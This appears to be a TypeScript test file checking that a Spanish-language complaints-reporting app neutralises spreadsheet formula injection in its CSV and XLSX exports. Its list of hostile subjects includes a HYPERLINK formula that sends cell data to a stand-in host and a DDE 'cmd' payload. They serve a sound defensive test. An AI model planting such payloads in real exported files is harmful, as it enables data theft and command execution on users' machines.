// Formula injection in exported reports (issue 11, finding 9): a subject like `=HYPERLINK(…)` or `@SUM(1)`
// must reach the spreadsheet as the text it is. CSV cells that start with = + - @ tab or carriage return
// are neutralised as OWASP's CSV-injection guidance says (a leading apostrophe, the cell quoted); numbers
// the report prints itself keep their sign. In XLSX a text is a string cell, never a formula.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { ReportDocument } from '../../src/features/reports/report-document.js';
import { neutralizedCell, renderCsv } from '../../src/features/reports/render/csv-renderer.js';
import { renderXlsx } from '../../src/features/reports/render/xlsx-renderer.js';

const HOSTILE_SUBJECTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Ver detalle")',
  '@SUM(1)',
  '+57 601 555 0101',
  "-1+cmd|' /C calc'!A0",
  '\tcon tabulador',
  '\rcon retorno',
];

function reportWithSubjects(subjects: readonly string[]): ReportDocument {
  return {
    kind: 'CONTRALORIA',
    title: 'Formato de PQRS para la Contraloría',
    legalBasis: 'Resolución de rendición de cuentas',
    entityName: 'Corporación Pública de Atención Ciudadana',
    officeName: 'Oficina de Atención al Cliente',
    period: { from: '2026-01-01', to: '2026-06-30' },
    asOf: '2026-07-05T13:00:00.000Z',
    layout: 'dataset',
    sections: [
      {
        type: 'table',
        title: 'PQRS',
        columns: [
          { key: 'subject', header: 'Asunto', format: 'text' },
          { key: 'daysLeft', header: 'Días hábiles restantes', format: 'integer' },
        ],
        rows: subjects.map((subject, index) => ({ subject, daysLeft: index - 3 })),
      },
    ],
  };
}

function csvRows(document: ReportDocument): string[][] {
  const rows: string[][] = parse(renderCsv(document, 'a'.repeat(64)), {
    bom: true,
    delimiter: ';',
    record_delimiter: '\r\n',
    relax_column_count: true,
  });
  // The preamble (7 lines) and an empty line, then the header row.
  return rows.slice(9);
}

describe('formula injection in CSV reports', () => {
  it.each(HOSTILE_SUBJECTS)('a text cell starting like a formula reads as text: %j', (subject) => {
    expect(neutralizedCell(subject)).toBe(`'${subject}`);
    expect(csvRows(reportWithSubjects([subject]))[0]![0]).toBe(`'${subject}`);
  });

  it('wraps a neutralised cell in double quotes, as OWASP asks', () => {
    const text = renderCsv(reportWithSubjects(['@SUM(1)']), 'a'.repeat(64)).toString('utf8');
    expect(text).toContain(`\r\n"'@SUM(1)";`);
  });

  it('leaves other texts alone, and negative figures as numbers', () => {
    expect(csvRows(reportWithSubjects(['Certificado de afiliación', 'a=b', ' =no empieza así']))).toEqual([
      ['Certificado de afiliación', '-3'],
      ['a=b', '-2'],
      [' =no empieza así', '-1'],
    ]);
  });

  it('neutralises section titles, headers and paragraphs too: any of them may quote a person', () => {
    const document: ReportDocument = {
      ...reportWithSubjects([]),
      layout: 'document',
      sections: [{ type: 'text', title: '=Conclusiones', paragraphs: ['@usuario escribió', 'Normal'] }],
    };
    const rows: string[][] = parse(renderCsv(document, 'a'.repeat(64)), {
      bom: true,
      delimiter: ';',
      record_delimiter: '\r\n',
      relax_column_count: true,
    });
    expect(rows.slice(-3)).toEqual([["'=Conclusiones"], ["'@usuario escribió"], ['Normal']]);
  });
});

describe('formula injection in XLSX reports', () => {
  it('writes every subject as a string cell, never a formula, as typed', async () => {
    const workbook = new ExcelJS.Workbook();
    const bytes = await renderXlsx(reportWithSubjects(HOSTILE_SUBJECTS), 'a'.repeat(64));
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const data = workbook.getWorksheet('Datos')!;
    HOSTILE_SUBJECTS.forEach((subject, index) => {
      const cell = data.getCell(index + 2, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML reads a bare carriage return back as a line feed; the text is otherwise as typed.
      expect(cell.value).toBe(subject.replace('\r', '\n'));
    });
  });
});
